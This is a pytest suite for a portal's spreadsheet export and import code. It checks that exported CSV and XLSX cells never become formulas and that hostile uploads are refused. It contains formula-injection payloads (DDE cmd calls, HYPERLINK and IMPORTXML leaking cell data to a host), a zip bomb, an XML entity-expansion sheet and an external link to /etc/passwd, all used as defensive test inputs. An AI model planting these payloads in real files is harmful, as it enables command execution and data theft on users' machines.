"""Tables that leave hold no formula, and tables that come in are judged before they are read."""

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from portal.core.sheets import (
    Column,
    Sheet,
    SheetRefused,
    download,
    read_xlsx,
    safe_for_csv,
    write_csv,
    write_xlsx,
    writing,
)
from tests.factories.files import a_word_document, a_zip
from tests.factories.sheets import a_table, a_workbook, with_parts

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("http://example.com/?x="&A1,"看这里")',
    '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
    '"=1+1',
    ";=1+1",
    '",=1+1',
    "#N/A",
    "1e3",
    "007",
    "TRUE",
    "2026-03-01",
)
COLUMNS = (
    Column("key", "编号", is_required=True, most=64),
    Column("text", "意见内容", is_required=True, most=5_000),
    Column("name", "姓名", most=50),
)


def parsed(lines):
    return list(csv.reader(io.StringIO("".join(lines).removeprefix("\ufeff"))))


def book_of(*args, **kwargs):
    return load_workbook(io.BytesIO(b"".join(write_xlsx(*args, **kwargs))))


def refusal(upload):
    with translation.override("en"), pytest.raises(SheetRefused) as refused:
        read_xlsx(upload, COLUMNS)
    return str(refused.value)


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_text_becomes_a_formula_in_a_workbook(text):
    cell = book_of(["意见"], [[text]]).worksheets[0]["A2"]
    assert cell.data_type == "s"
    assert cell.value.replace("\r", "\n") == text.replace("\r", "\n")


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_text_becomes_a_formula_in_csv(text):
    (_heading, [cell, last]) = parsed(write_csv(["意见", "序号"], [[text, 7]]))
    assert last == "7"
    assert not cell.lstrip(" ").startswith(writing.FORMULA_SIGNS)
    assert cell.removeprefix("'") == text


def test_a_heading_is_no_formula_either():
    assert book_of(["=1+1"], []).worksheets[0]["A1"].data_type == "s"
    assert "".join(write_csv(["=1+1"], [])).endswith('"\'=1+1"\r\n')


@given(st.text())
def test_any_text_can_be_written_and_read(text):
    writable = writing._UNWRITABLE.sub("", text)
    assert parsed(write_csv(["x"], [[text]]))[1:] == [[safe_for_csv(text)]]
    cell = book_of(["x"], [[text]]).worksheets[0]["A2"]
    assert (cell.value or "").replace("\r", "\n") == writable.replace("\r", "\n")


def test_csv_begins_with_the_mark_by_which_excel_knows_chinese():
    lines = list(
        write_csv(["渠道", "件数", "日期"], [["来信", 3, date(2026, 3, 1)], [None, 0, None]])
    )
    assert lines[0] == "\ufeff"
    assert lines[1:] == [
        '"渠道","件数","日期"\r\n',
        '"来信",3,"2026-03-01"\r\n',
        '"",0,""\r\n',
    ]


def test_numbers_and_days_stay_what_they_are_in_a_workbook():
    row = book_of(["a", "b", "c"], [[3, date(2026, 3, 1), None]]).worksheets[0][2]
    assert [cell.data_type for cell in row] == ["n", "d", "n"]
    assert row[1].number_format == "yyyy-mm-dd"
    assert row[2].value is None


def test_a_risky_text_stays_text_when_somebody_edits_it():
    risky, plain = book_of(["a", "b"], [["=1+1", "好"]]).worksheets[0][2]
    assert risky.quotePrefix
    assert not plain.quotePrefix


def test_a_second_sheet_and_a_title_that_no_tab_may_have():
    book = book_of(["a"], [], title="甲/乙[丙]", further=[Sheet("条文", ["条"], [["第一条"]])])
    assert book.sheetnames == ["甲 乙 丙", "条文"]
    assert book["条文"]["A2"].value == "第一条"
    assert book.worksheets[0].freeze_panes == "A2"


def test_rows_beyond_what_a_sheet_takes_go_on_to_the_next(monkeypatch):
    monkeypatch.setattr(writing, "MOST_ROWS", 3)
    book = book_of(["n"], [[n] for n in range(5)], title="清单")
    read = [[cell.value for cell in sheet["A"]] for sheet in book.worksheets]
    assert read == [["n", 0, 1], ["n", 2, 3], ["n", 4]]


def test_rows_that_break_off_leave_no_file_behind(monkeypatch, tmp_path):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    def rows():
        yield ["一"]
        assert list(tmp_path.iterdir())
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError):
        list(write_xlsx(["a"], rows()))
    assert list(tmp_path.iterdir()) == []
    list(write_xlsx(["a"], [["一"]]))
    assert list(tmp_path.iterdir()) == []


def test_a_download_is_saved_and_never_drawn():
    response = download(write_csv(["a"], []), name="意见汇总.csv")
    assert response.headers["Content-Disposition"].startswith("attachment; filename*=utf-8''")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "private, no-store"
    assert response.streaming


def test_a_table_is_read_by_its_headings_wherever_they_stand():
    table = read_xlsx(
        a_table(
            [
                ["意见内容 *", "备注", "编号*"],
                ["应当延长", "略", 12],
                [None, None, None],
                ["  同意  ", None, "12-b"],
            ]
        ),
        COLUMNS,
    )
    assert [(row.number, row["key"], row["text"], row["name"]) for row in table.rows] == [
        (2, "12", "应当延长", ""),
        (4, "12-b", "同意", ""),
    ]
    assert table.ignored == ("备注",)
    assert table.problems == []


def test_days_and_numbers_are_read_as_a_person_would_write_them():
    rows = [["编号", "意见内容", "姓名"], [1.0, date(2026, 3, 1), 2.5], [True, "x", "007"]]
    table = read_xlsx(a_table(rows), COLUMNS)
    assert [list(row.cells.values()) for row in table.rows] == [
        ["1", "2026-03-01", "2.5"],
        ["True", "x", "007"],
    ]


def test_each_bad_cell_is_named_with_its_row_and_heading():
    rows = [
        ["编号", "意见内容", "姓名"],
        ["1", "=1+1", "王"],
        ["", "甲", "王" * 51],
        ["3", "#N/A", ""],
    ]
    with translation.override("en"):
        table = read_xlsx(a_table(rows), COLUMNS)
    assert [(one.row, one.column, one.sentence) for one in table.problems] == [
        (2, "意见内容", "This is a formula. Put in its result as a value."),
        (3, "编号", "This must be filled in."),
        (3, "姓名", "This is longer than 50 characters."),
        (4, "意见内容", "This is an error of the table program. Put in the value that is meant."),
    ]


def test_what_this_portal_writes_it_reads_again():
    content = b"".join(write_xlsx(["编号", "意见内容", "姓名"], [["1", "=1+1", "王"]]))
    table = read_xlsx(SimpleUploadedFile("a.xlsx", content), COLUMNS)
    assert table.problems == []
    assert table.rows[0]["text"] == "=1+1"


def test_a_table_without_a_required_column_is_refused():
    assert refusal(a_table([["编号", "姓名"], ["1", "王"]])) == (
        "The first row lacks these headings: 意见内容. Take the template."
    )
    assert "twice: 编号" in refusal(a_table([["编号", "编号", "意见内容"]]))


def test_more_rows_than_are_taken_are_refused():
    rows = [["编号", "意见内容"], *([n, f"第{n}件，理由{n * 7919}"] for n in range(5_001))]
    assert "more than 5000 rows" in refusal(a_table(rows))
    assert len(read_xlsx(a_table(rows[:-1]), COLUMNS).rows) == 5_000


def linked(kind, target, mode=' TargetMode="External"'):
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return with_parts(
        a_workbook([["编号", "意见内容"]]),
        xl__worksheets___rels__sheet1_dot_xml_dot_rels=(
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r9" Type="{office}/{kind}" Target="{target}"{mode}/>'
            "</Relationships>"
        ),
    )


def macro_workbook():
    return with_parts(a_workbook([["编号"]]), xl__vbaProject_dot_bin="macro")


def entities():
    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    sheet = (
        f'<?xml version="1.0"?>{laughs}'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row></sheetData>'
        "</worksheet>"
    )
    return with_parts(a_workbook([["编号"]]), xl__worksheets__sheet1_dot_xml=sheet)


HOSTILE = {
    "nothing": ("a.xlsx", b"", "is empty"),
    "blank": ("a.xlsx", a_workbook([]), "is empty"),
    "large": ("a.xlsx", b"PK\x03\x04" + bytes(10 * 1024 * 1024), "larger than 10 MB"),
    "old": ("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "an old Excel file"),
    "csv": ("a.csv", "编号,意见内容".encode(), "no Excel workbook"),
    "renamed": ("a.xlsx", "编号,意见内容".encode(), "no Excel workbook"),
    "word": ("a.xlsx", a_word_document(), "cannot be read"),
    "zip": ("a.xlsx", a_zip({"a.txt": b"x"}), "cannot be read"),
    "cut off": ("a.xlsx", a_workbook([["编号"]])[:-200], "cannot be read"),
    "bomb": ("a.xlsx", a_zip({"xl/a.xml": bytes(40_000_000)}), "far too large"),
    "macro": ("a.xlsx", macro_workbook(), "holds macros"),
    "macro by name": ("a.xlsm", a_workbook([["编号"]]), "holds macros"),
    "external": ("a.xlsx", linked("externalLink", "file:///etc/passwd"), "linked to other"),
    "ole": ("a.xlsx", linked("oleObject", "x.bin", ""), "linked to other"),
    "connection": ("a.xlsx", linked("connections", "c.xml", ""), "linked to other"),
    "entities": ("a.xlsx", entities(), "cannot be read"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_with_a_sentence(name):
    file_name, content, sentence = HOSTILE[name]
    assert sentence in refusal(SimpleUploadedFile(file_name, content))


def test_a_sheet_that_claims_a_million_rows_is_read_in_no_time():
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<dimension ref="A1:XFD1048576"/><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>编号</t></is></c>'
        '<c r="XFD1" t="inlineStr"><is><t>意见内容</t></is></c></row>'
        '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    content = with_parts(a_workbook([["编号"]]), xl__worksheets__sheet1_dot_xml=sheet)
    assert "lacks these headings: 意见内容" in refusal(SimpleUploadedFile("a.xlsx", content))


def test_a_link_in_a_cell_is_no_danger():
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.append(["编号", "意见内容"])
    sheet.append(["1", "见链接"])
    sheet["B2"].hyperlink = "https://example.com/"
    place = io.BytesIO()
    book.save(place)
    table = read_xlsx(SimpleUploadedFile("a.xlsx", place.getvalue()), COLUMNS)
    assert table.rows[0]["text"] == "见链接"


def test_the_reader_stands_alone():
    source = Path(writing.__file__).with_name("xlsx_reader.py").read_text()
    assert "portal" not in source
    assert "django" not in source
